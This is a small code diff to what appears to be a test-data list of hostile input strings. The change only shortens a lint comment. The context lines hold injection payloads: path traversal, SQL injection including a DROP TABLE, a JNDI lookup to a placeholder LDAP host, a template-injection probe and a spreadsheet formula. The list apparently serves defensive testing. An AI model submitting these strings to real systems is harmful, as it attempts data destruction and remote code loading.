@@ -36,7 +36,7 @@ export const hostileTexts: readonly string[] = [
   '%2e%2e',
   "' OR 1=1 --",
   '"; DROP TABLE c',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression that a logging framework of old would resolve
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression that old loggers resolve
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '=cmd()',
